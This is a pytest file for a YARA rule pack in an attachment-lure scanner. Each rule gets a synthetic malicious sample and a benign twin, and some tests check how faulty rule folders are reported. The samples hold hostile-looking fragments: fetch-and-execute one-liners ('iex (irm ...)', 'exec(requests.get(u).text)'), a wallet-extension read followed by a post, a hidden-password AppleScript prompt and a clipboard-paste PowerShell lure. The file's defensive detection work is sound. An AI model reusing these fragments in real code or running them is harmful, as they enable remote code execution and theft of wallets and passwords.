"""The pack's rules on samples made for them, and folders of rules with faults in them."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path

import pytest

from lure.attachment.builders.binaries import doc
from lure.attachment.builders.executables import elf, msi, pe
from lure.attachment.builders.macros import starting, streams
from lure.attachment.builders.pdfs import pdf
from lure.attachment.builders.rich_text import rtf, templated
from lure.attachment.builders.shortcuts import lnk
from vedette.lure.attachment.inspection import inspect_in_process
from vedette.lure.attachment.yara_rules import FOLDER, RuleSet
from vedette.model.bundled import bundled

_PACK = RuleSet([bundled("lures") / FOLDER])
_LETTERS = base64.b64encode(b"synthetic text without meaning " * 8).decode()


def _text(*lines: str) -> bytes:
    return "\n".join(lines).encode()


def _pe(*texts: str) -> bytes:
    return pe(text="\0".join(texts).encode())


_LOADER = ("WinHttpOpenRequest", "VirtualAlloc", "BCryptDecrypt")
_SAMPLES: tuple[tuple[str, Callable[[], bytes], Callable[[], bytes]], ...] = (
    (
        "Shortcut_Encoded_PowerShell",
        lambda: lnk("C:\\W\\powershell.exe", f"-enc {_LETTERS}"),
        lambda: lnk("C:\\W\\powershell.exe", "-File C:\\scripts\\backup.ps1"),
    ),
    (
        "Shortcut_Mshta_Or_Regsvr_Address",
        lambda: lnk("C:\\W\\mshta.exe", "https://docs.example/a"),
        lambda: lnk("C:\\P\\browser.exe", "https://careers.example"),
    ),
    (
        "Shortcut_Cuts_Itself_Open",
        lambda: lnk("C:\\W\\cmd.exe", '/c findstr "MZ" offer.pdf.lnk > %TEMP%\\a'),
        lambda: lnk("C:\\W\\cmd.exe", "/c start offer.pdf"),
    ),
    (
        "Search_Connector_Remote_Share",
        lambda: _text("<libraryDescription>", "<url>\\\\files.example\\s</url>"),
        lambda: _text("<libraryDescription>", "<url>knownfolder:{A}</url>"),
    ),
    (
        "Remote_Viewer_With_Loader",
        lambda: _pe("TightVNC Viewer", *_LOADER),
        lambda: _pe("TightVNC Viewer", "WinHttpOpenRequest", "VirtualAlloc"),
    ),
    (
        "Terminal_Client_With_Second_Stage",
        lambda: _pe("PuTTY", "colorcpl.exe", "C:\\ProgramData\\x"),
        lambda: _pe("PuTTY", "C:\\ProgramData\\x"),
    ),
    (
        "Document_Reader_With_Own_Document",
        lambda: _pe("SumatraPDF", "BCryptDecrypt", "GetTempPathW", "CreateProcessW", "WinHttpOpen"),
        lambda: _pe("SumatraPDF", "GetTempPathW", "CreateProcessW", "WinHttpOpen"),
    ),
    (
        "Launcher_With_Decoy_Document",
        lambda: _pe("Job_Description.pdf", "ShellExecuteW", "rundll32"),
        lambda: _pe("Manual.pdf", "ShellExecuteW", "rundll32"),
    ),
    (
        "Linux_Launcher_With_Decoy_Document",
        lambda: elf(b"xdg-open\0offer.pdf\0.config/autostart\0/bin/sh -c"),
        lambda: elf(b"xdg-open\0manual.pdf"),
    ),
    (
        "Library_Loaded_Beside_Program",
        lambda: _pe("\\system32\\version.dll", "VirtualAlloc", "VirtualProtect", " data.bin "),
        lambda: _pe("version.dll", "VirtualAlloc", "VirtualProtect", " data.bin "),
    ),
    (
        "Installer_Runs_Shell",
        lambda: msi(actions=b"CustomAction powershell.exe -enc https://docs.example"),
        lambda: msi(actions=b"CustomAction SetPropertyFolder"),
    ),
    (
        "Script_Fetches_Saves_Runs",
        lambda: _text(
            'CreateObject("MSXML2.XMLHTTP")', 'CreateObject("ADODB.Stream")', "WScript.Shell"
        ),
        lambda: _text("MSXML2.XMLHTTP", "ADODB.Stream"),
    ),
    (
        "PowerShell_Fetches_Runs_Hidden",
        lambda: _text("iex (irm https://docs.example)", "-w hidden", "AmsiUtils"),
        lambda: _text("Invoke-WebRequest https://careers.example -OutFile a.zip"),
    ),
    (
        "Coding_Test_Node_Loader",
        lambda: _text("axios.get(u).then(r => eval(res.data))"),
        lambda: _text("axios.get(u).then(r => show(r.data))"),
    ),
    (
        "Code_Reads_Browser_Wallets",
        lambda: _text(
            "os.homedir()",
            "Local Extension Settings",
            "nkbihfbeogaeaoehlefnkodbefgpgknn",
            "axios.post(",
        ),
        lambda: _text("os.homedir()", "Login Data", "axios.post("),
    ),
    (
        "Python_Layered_Exec",
        lambda: _text("import zlib, base64", "exec(zlib.decompress(base64.b64decode(x)))"),
        lambda: _text("import zlib, base64", "data = zlib.decompress(base64.b64decode(x))"),
    ),
    (
        "Python_Fetches_And_Execs",
        lambda: _text("import requests", "exec(requests.get(u).text)"),
        lambda: _text("import requests", "print(requests.get(u).text)"),
    ),
    (
        "AppleScript_Asks_Password",
        lambda: _text('display dialog "Password" with hidden answer', "do shell script"),
        lambda: _text('display dialog "Name" default answer', "do shell script"),
    ),
    (
        "Project_Build_Event_Loads_Library",
        lambda: _text("<Project><PreBuildEvent>rundll32 a.dll,b</PreBuildEvent></Project>"),
        lambda: _text("<Project><PreBuildEvent>copy a b</PreBuildEvent></Project>"),
    ),
    (
        "Page_Pastes_Command",
        lambda: _text(
            "navigator.clipboard.writeText('powershell -w hidden')",
            "<p>Press Win + R, then Ctrl + V</p>",
        ),
        lambda: _text("navigator.clipboard.writeText(link)", "<p>Press Ctrl + V to paste</p>"),
    ),
    (
        "Page_Saves_Packed_File",
        lambda: _text("atob(d); createObjectURL(b); a.download = 'offer.iso'; a.click()"),
        lambda: _text("atob(d); createObjectURL(b); a.download = 'chart.png'; a.click()"),
    ),
    (
        "Note_Remote_Login_For_Viewer",
        lambda: _text("Open the VNC viewer", "Server: 192.0.2.7", "Password: synthetic"),
        lambda: _text("Open the meeting", "Server room: 12", "Password: synthetic"),
    ),
    (
        "Rich_Text_Remote_Template",
        lambda: templated("https://docs.example/x.dotm"),
        lambda: templated("C:\\\\t\\\\Normal.dotm"),
    ),
    (
        "Binary_Document_Asks_For_Macros",
        lambda: doc(
            "Click Enable Content to read this offer\r",
            more=streams({"M": starting("AutoOpen")}, "Macros/VBA/"),
        ),
        lambda: doc("Click Enable Content to read this offer\r"),
    ),
    (
        "Document_Says_Protected_Viewer_Needed",
        lambda: rtf("This document is protected and can only be opened with the enclosed viewer"),
        lambda: pdf(text="This document is for the reader of our careers page"),
    ),
)


def _rules(rules: RuleSet, data: bytes) -> list[dict[str, str]]:
    (report,) = inspect_in_process([("file.bin", data)], scan=rules.scan)
    return [dict(sign.detail) for sign in report.signs if sign.name == "yara_match"]


def test_pack_compiles_whole() -> None:
    assert _PACK.problems == []
    assert len(_PACK.names) >= 15


def test_every_rule_has_samples() -> None:
    assert sorted(_PACK.names) == sorted(name for name, _, _ in _SAMPLES)


@pytest.mark.parametrize(("rule", "sample", "twin"), _SAMPLES, ids=[one[0] for one in _SAMPLES])
def test_rule(rule: str, sample: Callable[[], bytes], twin: Callable[[], bytes]) -> None:
    (found,) = [one for one in _rules(_PACK, sample()) if one["rule"] == rule]
    assert found["description"]
    assert found["technique"].startswith("T1")
    assert "@" in found["strings"]
    assert rule not in [one["rule"] for one in _rules(_PACK, twin())]


def test_faulty_rules_are_told_and_the_rest_work(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text(
        'rule broken { condition: nothing_of_that_name }\nrule good { strings: $a = "needle" '
        "condition: $a }\n"
    )
    (tmp_path / "b.yar").write_text("rule unfinished {")
    (tmp_path / "c.yar").write_bytes(b"\xff\xfe\x00")
    (tmp_path / "d.yar").write_text('rule good { strings: $a = "thread" condition: $a }\n')
    rules = RuleSet([tmp_path])
    told = [(problem.where, problem.what) for problem in rules.problems]
    assert (f"{tmp_path}/a.yar:1:26", "unknown identifier `nothing_of_that_name`") in told
    assert any(where.startswith(f"{tmp_path}/b.yar:1:") for where, _ in told)
    assert any(where == f"{tmp_path}/c.yar" for where, _ in told)
    assert rules.names == ("good", "good")
    assert [one["rule"] for one in _rules(rules, b"a needle in hay")] == ["good"]


def test_empty_folder_is_told(tmp_path: Path) -> None:
    (problem,) = RuleSet([tmp_path]).problems
    assert problem.where == str(tmp_path)


def test_match_carries_its_place() -> None:
    data = b"x" * 100 + b"\nimport requests\nexec(requests.get(u).text)\n"
    (report,) = inspect_in_process([("a.txt", data)], scan=_PACK.scan)
    (sign,) = [sign for sign in report.signs if sign.name == "yara_match"]
    (evidence,) = sign.evidence
    assert data[evidence.start : evidence.end].decode() == evidence.text
